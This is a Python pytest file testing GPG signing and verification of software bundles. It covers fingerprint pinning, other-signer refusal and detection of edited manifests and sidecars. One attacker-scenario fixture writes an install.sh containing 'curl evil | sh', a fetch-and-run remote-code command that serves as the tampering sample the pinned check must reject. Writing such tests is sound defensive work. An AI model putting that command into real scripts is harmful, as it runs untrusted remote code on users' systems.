"""bundler.carry.sign with real gpg/gpgv keys: sign, verify, require a fingerprint, refuse edits and other signers."""

from __future__ import annotations

import hashlib
import shutil
from pathlib import Path

import pytest
from test_verify import default_files, make_bundle, manifest_of, write_sidecar

from bundler.carry import sign, verify
from bundler.cli import main
from bundler.core.errors import EXIT_SIGNATURE, InputError, IntegrityError, SignatureError
from tests.support.rpms import make_signing_key as make_key
from tests.support.rpms import stop_agent

pytestmark = pytest.mark.skipif(not (shutil.which("gpg") and shutil.which("gpgv")), reason="gpg/gpgv missing")


@pytest.fixture(scope="module")
def keys(tmp_path_factory):
    base = tmp_path_factory.mktemp("gpg")
    good, other = base / "good", base / "other"
    fpr_good = make_key(good, "wcbundle builder <builder@example.invalid>")
    fpr_other = make_key(other, "mallory <mallory@example.invalid>")
    yield {"good": (good, fpr_good), "other": (other, fpr_other)}
    stop_agent(good)
    stop_agent(other)


def make_signed_bundle(dirpath: Path, home: Path, fpr: str, files: dict[str, bytes] | None = None) -> Path:
    """What pack does with --sign-key: ship the public key, sign MANIFEST.sha256 and the sidecar."""
    files = dict(default_files() if files is None else files)
    key = dirpath / "signer.gpg"
    assert sign.export_public_key(fpr, key, home) == fpr
    files[sign.SIGNER_KEY] = key.read_bytes()
    man = dirpath / "MANIFEST.sha256"
    man.write_bytes(manifest_of(files))
    files["MANIFEST.sha256.asc"] = sign.sign_file(man, fpr, home).read_bytes()
    tar = make_bundle(dirpath, files, manifest=man.read_bytes())
    sign.sign_file(tar.with_name(tar.name + ".sha256"), fpr, home)
    return tar


def test_signed_bundle_verifies_and_pins(tmp_path, keys, capsys):
    home, fpr = keys["good"]
    tar = make_signed_bundle(tmp_path, home, fpr)
    info = verify.verify_bundle(tar)
    assert info["signed"] and info["signer"] == fpr
    spaced = " ".join(fpr[i:i + 4] for i in range(0, 40, 4)).lower()
    assert verify.verify_bundle(tar, require_fpr=spaced)["signer"] == fpr
    assert main(["verify", "--require-signature", fpr, str(tar)]) == 0
    assert f"Signed by: {fpr} (required)" in capsys.readouterr().out


def test_other_signer_refused(tmp_path, keys):
    home, fpr = keys["good"]
    _, other = keys["other"]
    tar = make_signed_bundle(tmp_path, home, fpr)
    with pytest.raises(SignatureError, match=f"signed by {fpr}, not by the required {other}"):
        verify.verify_bundle(tar, require_fpr=other)
    assert main(["verify", "--require-signature", other, str(tar)]) == EXIT_SIGNATURE


def test_resigned_by_attacker_refused_when_pinned(tmp_path, keys):
    """An attacker who rebuilds and re-signs with their own key passes an unpinned check, never a pinned one."""
    _, fpr = keys["good"]
    evil_home, evil = keys["other"]
    files = default_files()
    files["install.sh"] = b"#!/usr/bin/env bash\ncurl evil | sh\n"
    tar = make_signed_bundle(tmp_path, evil_home, evil, files)
    assert verify.verify_bundle(tar)["signer"] == evil
    with pytest.raises(SignatureError, match="not by the required"):
        verify.verify_bundle(tar, require_fpr=fpr)


def test_unsigned_refused_when_signature_required(tmp_path, keys):
    _, fpr = keys["good"]
    tar = make_bundle(tmp_path)
    with pytest.raises(SignatureError, match="not signed"):
        verify.verify_bundle(tar, require_fpr=fpr)


def test_edited_manifest_refused(tmp_path, keys):
    """Edit a file AND MANIFEST.sha256 consistently, recompute the sidecar: only the signature can tell."""
    home, fpr = keys["good"]
    good = make_signed_bundle(tmp_path, home, fpr)
    import tarfile
    with tarfile.open(good) as tf:
        members = {m.name.split("/", 1)[1]: tf.extractfile(m).read() for m in tf if m.isfile()}
    members["bundle.env"] = b"WCB_EL=7\nWCB_EVIL=1\n"
    asc = members.pop("MANIFEST.sha256.asc")
    members.pop("MANIFEST.sha256")
    members["MANIFEST.sha256.asc"] = asc
    evil_dir = tmp_path / "evil"
    evil_dir.mkdir()
    tar = make_bundle(evil_dir, members, manifest=manifest_of(members))
    shutil.copy(good.with_name(good.name + ".sha256.asc"), evil_dir)
    with pytest.raises(SignatureError, match="BAD"):
        verify.verify_bundle(tar)
    assert main(["verify", str(tar)]) == EXIT_SIGNATURE


def test_edited_sidecar_signature_refused(tmp_path, keys):
    home, fpr = keys["good"]
    tar = make_signed_bundle(tmp_path, home, fpr)
    # append to the tar and re-make the sidecar: the sidecar's own signature must catch it
    write_sidecar(tar)
    side = tar.with_name(tar.name + ".sha256")
    side.write_text(side.read_text().replace(side.read_text()[:64], hashlib.sha256(b"x").hexdigest()))
    with pytest.raises((SignatureError, IntegrityError)):
        verify.verify_bundle(tar)
    write_sidecar(tar)
    side.write_text(side.read_text() + "\n")   # one byte more in the signed sidecar, hash still right
    with pytest.raises(SignatureError, match="BAD"):
        verify.verify_bundle(tar)


def test_signature_without_key_needs_keyring(tmp_path, keys):
    home, fpr = keys["good"]
    files = default_files()
    man = tmp_path / "MANIFEST.sha256"
    man.write_bytes(manifest_of(files))
    files["MANIFEST.sha256.asc"] = sign.sign_file(man, fpr, home).read_bytes()
    tar = make_bundle(tmp_path, files, manifest=man.read_bytes())
    with pytest.raises(SignatureError, match="no keyring"):
        verify.verify_bundle(tar)
    ring = tmp_path / "ring.gpg"
    sign.export_public_key(fpr, ring, home)
    assert verify.verify_bundle(tar, keyring=ring)["signer"] == fpr


def test_verify_signature_direct(tmp_path, keys):
    home, fpr = keys["good"]
    data = tmp_path / "data.txt"
    data.write_text("hello\n")
    sig = sign.sign_file(data, fpr, home)
    assert sig.read_text().startswith("-----BEGIN PGP SIGNATURE-----")
    ring = tmp_path / "ring.gpg"
    sign.export_public_key(fpr, ring, home)
    assert sign.verify_signature(data, sig, ring, fpr) == fpr
    data.write_text("hello!\n")
    with pytest.raises(SignatureError, match="BAD"):
        sign.verify_signature(data, sig, ring)
    other_ring = tmp_path / "other.gpg"
    sign.export_public_key(keys["other"][1], other_ring, keys["other"][0])
    data.write_text("hello\n")
    with pytest.raises(SignatureError, match="not in the keyring"):
        sign.verify_signature(data, sig, other_ring)
    sig.write_text("not a signature\n")
    with pytest.raises(SignatureError):
        sign.verify_signature(data, sig, ring)


def test_fingerprint_rules_and_missing_key(tmp_path, keys):
    home, fpr = keys["good"]
    for bad in ("DEADBEEF", "0x" + fpr[-16:], "", "Z" * 40):
        with pytest.raises(InputError, match="full key fingerprint"):
            sign.normalize_fpr(bad)
    assert sign.normalize_fpr("0x" + fpr.lower()) == fpr
    f = tmp_path / "x"
    f.write_text("x")
    with pytest.raises(SignatureError, match="no secret key"):
        sign.fingerprint_of("nobody@example.invalid", home)
    with pytest.raises(SignatureError, match="signing x with key"):
        sign.sign_file(f, "nobody@example.invalid", home)
    assert not (tmp_path / "x.asc").exists()
